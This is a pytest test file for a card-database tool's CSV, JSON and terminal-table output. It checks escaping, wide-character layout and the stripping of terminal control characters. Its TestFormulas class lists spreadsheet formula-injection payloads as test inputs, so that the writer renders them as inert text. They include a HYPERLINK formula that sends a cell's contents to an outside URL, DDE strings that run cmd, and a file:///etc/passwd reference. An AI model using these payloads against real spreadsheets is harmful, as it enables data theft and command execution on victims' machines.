"""Rows as text: nothing is lost, a table fits, and other programs can read what is written."""

import csv
import io
import json
from datetime import date, datetime, time
from decimal import Decimal
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from brawlset.output import (
    Column,
    cell_text,
    clean,
    display_width,
    format_facts,
    format_table,
    json_value,
    unique_names,
    wrap,
    write_csv,
    write_json,
)

ID = UUID("c048586d-df27-57c8-92c7-4a51416e5d81")
MOMENT = datetime.fromisoformat("2019-05-03T04:05:06.000007")


def as_csv(names: list[str], *rows: tuple) -> str:
    out = io.StringIO()
    write_csv(out, names, rows)
    return out.getvalue()


def as_json(names: list[str], *rows: tuple) -> list[dict]:
    out = io.StringIO()
    write_json(out, names, rows)
    return json.loads(out.getvalue())


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""), (True, "true"), (False, "false"), (3, "3"), (4.0, "4.0"), (Decimal("1.20"), "1.2"), ("Nazgûl", "Nazgûl"),
        (["Plains", "Forest"], "Plains Forest"), (["Jegantha, the Wellspring"], '"Jegantha, the Wellspring"'),
        (["Snow-Covered Plains", "Wastes"], "Snow-Covered Plains; Wastes"), ([], ""), (date(2019, 5, 3), "2019-05-03"),
        (MOMENT, "2019-05-03T04:05:06.000007"), (ID, str(ID)), ({"a": [1]}, '"{""a"": [1]}"'),
        ('"Ach! Hans, Run!"', '"""Ach! Hans, Run!"""'),
    ],
)  # fmt: skip
def test_a_value_in_csv(value: object, text: str) -> None:
    assert as_csv(["a", "b"], (value, 1)) == f"a,b\n{text},1\n"


def test_csv_keeps_line_breaks_and_quotes() -> None:
    text = 'one\ntwo, "three"'

    assert list(csv.reader(io.StringIO(as_csv(["a"], (text,)), newline=""))) == [["a"], [text]]


def test_csv_without_rows_has_its_header() -> None:
    assert as_csv(["name", "set_code"]) == "name,set_code\n"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, None), (True, True), (3, 3), (2**70, 2**70), (1.5, 1.5), (float("nan"), "nan"), (float("inf"), "inf"),
        (Decimal("0.10"), 0.1), (Decimal("12345678901234567.25"), "12345678901234567.25"), (Decimal("NaN"), "NaN"),
        (date(2019, 5, 3), "2019-05-03"), (time(1, 2), "01:02:00"), (ID, str(ID)), (["W", None], ["W", None]), (b"\x00\xff", "00ff"),
        ({"a": ID, 1: date(2020, 1, 1)}, {"a": str(ID), "1": "2020-01-01"}), ("Nazgûl ★", "Nazgûl ★"),
    ],
)  # fmt: skip
def test_a_value_in_json(value: object, expected: object) -> None:
    assert json_value(value) == expected
    assert as_json(["a"], (value,)) == [{"a": expected}]


def test_json_is_an_array_with_one_object_a_line() -> None:
    out = io.StringIO()
    write_json(out, ["name"], [("Fog",), ("Nazgûl",)])

    assert out.getvalue() == '[\n{"name": "Fog"},\n{"name": "Nazgûl"}\n]\n'


def test_json_without_rows_is_an_empty_array() -> None:
    assert as_json(["name"]) == []


@pytest.mark.parametrize("mark", ["\u061c", "\u200e", "\u200f", "\u202e", "\u2066", "\x9b", "\x1b"])
def test_what_a_terminal_obeys_and_what_turns_text_is_shown_as_a_question_mark(mark: str) -> None:
    assert clean(f"a{mark}b") == "a?b"


def test_two_columns_of_one_name_both_stay() -> None:
    assert unique_names(["a", "a", "b", "a"]) == ["a", "a_2", "b", "a_3"]
    assert as_json(["a", "a"], (1, 2)) == [{"a": 1, "a_2": 2}]


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""), (True, "yes"), (2.0, "2"), (0.5, "0.5"), (1e300, "1e+300"), (["Plains", "Wastes"], "Plains, Wastes"),
        (MOMENT, "2019-05-03 04:05:06"), ({"a": 1}, '{"a": 1}'), ("\x1b[31mred\x07", "?[31mred?"), ("a\tb", "a    b"),
    ],
)  # fmt: skip
def test_a_value_in_a_table(value: object, text: str) -> None:
    assert cell_text(value) == text


@pytest.mark.parametrize(
    ("text", "cells"),
    [
        ("Fog", 3),
        ("Nazgûl", 6),
        ("Nazgu\u0302l", 6),
        ("山", 2),
        ("カード", 6),
        ("4★", 2),
        ("🃏", 2),
        ("a\u200bb", 2),
        ("", 0),
    ],
)
def test_wide_characters_and_marks_are_measured_as_a_terminal_shows_them(text: str, cells: int) -> None:
    assert display_width(text) == cells


def test_a_table_that_fits_is_not_wrapped() -> None:
    columns = (Column("Card"), Column("Pool", is_right=True))

    assert format_table(columns, [("Fog", 7), ("Nazgûl", 120)], width=80) == [
        "Card    Pool",
        "------  ----",
        "Fog        7",
        "Nazgûl   120",
    ]


def test_a_wide_value_is_wrapped_between_words_and_numbers_stay_whole() -> None:
    columns = (Column("Commander"), Column("Pool", is_right=True), Column("Proof", is_kept_whole=True))

    assert format_table(columns, [("Okaun, Eye of Chaos + Zndrsplt, Eye of Wisdom", 100, "bbd 6")], width=36) == [
        "Commander                Pool  Proof",
        "-----------------------  ----  -----",
        "Okaun, Eye of Chaos +     100  bbd 6",
        "  Zndrsplt, Eye of",
        "  Wisdom",
    ]


def test_wide_characters_keep_the_columns_straight() -> None:
    lines = format_table((Column("Name"), Column("Set")), [("山", "war"), ("Fog", "eld")], width=80)

    assert lines[2:] == ["山    war", "Fog   eld"]


def test_where_columns_cannot_stand_side_by_side_each_row_is_a_record() -> None:
    columns = [Column(name) for name in ("oracle_id", "name", "printing_id")]

    assert format_table(columns, [(ID, "Fog", ID), (ID, "Nazgûl", None)], width=60) == [
        f"oracle_id    {ID}",
        "name         Fog",
        f"printing_id  {ID}",
        "",
        f"oracle_id    {ID}",
        "name         Nazgûl",
        "printing_id",
    ]


def test_a_table_without_rows_shows_its_header() -> None:
    assert format_table([Column("name"), Column("set")], [], width=80)[0] == "name  set"
    assert format_table([Column("a" * 30), Column("b" * 30)], [], width=40) == [f"{'a' * 30},", "b" * 30]


def test_line_breaks_in_a_value_stay() -> None:
    assert format_table([Column("Text"), Column("Set")], [("Flying\nHaste", "war")], width=80)[2:] == [
        "Flying  war",
        "Haste",
    ]


def test_facts_stand_below_each_other() -> None:
    assert format_facts([("Database", "data"), ("Built", "one two three four five")], width=30) == [
        "Database  data",
        "Built     one two three four",
        "          five",
    ]


def test_facts_stand_below_their_names_where_the_terminal_is_narrow() -> None:
    assert format_facts([("scryfall_default_cards", "one two three")], width=20) == [
        "scryfall_default_cards",
        "  one two three",
    ]


@pytest.mark.parametrize(
    ("text", "width", "lines"),
    [
        ("", 10, [""]), ("one two", 7, ["one two"]), ("one two", 6, ["one", "two"]), ("abcdefgh", 3, ["abc", "def", "gh"]),
        ("un deux : trois", 7, ["un", "deux :", "trois"]), ("un « deux ».", 10, ["un", "« deux »."]),
        ("a\nb", 10, ["a", "b"]), ("  - item", 20, ["  - item"]), ("山山山", 4, ["山山", "山"]),
    ],
)  # fmt: skip
def test_text_is_wrapped(text: str, width: int, lines: list[str]) -> None:
    assert wrap(text, width) == lines


WORDS = st.text(
    st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Cf", "Mn", "Me", "Zl", "Zp", "Zs"]),
    min_size=1,
    max_size=12,
)
PHRASES = st.lists(WORDS, max_size=8).map(" ".join)


@given(rows=st.lists(st.tuples(PHRASES, PHRASES, st.integers(0, 10**6)), max_size=6), width=st.integers(40, 120))
def test_no_line_is_wider_than_the_terminal_and_no_character_is_lost(
    rows: list[tuple[str, str, int]], width: int
) -> None:
    columns = (Column("Name"), Column("Why"), Column("Pool", is_right=True))

    lines = format_table(columns, rows, width=width)

    assert max(map(display_width, lines)) <= width
    shown = "".join(lines)
    for row in rows:
        for value in row:
            assert all(shown.count(char) >= str(value).count(char) for char in str(value))


class TestFormulas:
    """A spreadsheet runs what it takes for a formula, and a formula can send what stands beside it to another machine."""

    @pytest.mark.parametrize(
        "text",
        ["=1+1", "=HYPERLINK(\"http://example.org\"&A1)", "@SUM(A1)", "+HYPERLINK(\"x\")", "-2+3+cmd|' /C calc'!A0", "+cmd|'x'!A1",
         "\t=1", "\r=1", "\n=1", "＝1+1", "+1:\nfoo|bar", "+'\\\\host\\[x.xlsx]S'!A1", "-'file:///etc/passwd'#$passwd.A1", "+[x.xlsx]S!A1"],
    )  # fmt: skip
    def test_what_a_spreadsheet_would_run_is_written_as_text(self, text):
        out = io.StringIO()
        write_csv(out, ["a", "b"], [[text, 1]])
        (_, row) = csv.reader(io.StringIO(out.getvalue(), newline=""))
        assert row == ["'" + text.replace("\r", "\n"), "1"]

    @pytest.mark.parametrize(
        "text",
        [
            "+2 Mace",
            "-1",
            "+1",
            "-0",
            "*",
            "+1: Draw a card. (Then discard it.)",
            "−2: Exile it.",
            "_____",
            "A=B",
            "+1: Say 'Fog!' or 'No!'",
            "1+*",
            "-",
            "",
        ],
    )
    def test_cards_and_their_texts_stay_as_they_are(self, text):
        out = io.StringIO()
        write_csv(out, ["a", "b"], [[text, -5], [None, -1.5]])
        assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [["a", "b"], [text, "-5"], ["", "-1.5"]]
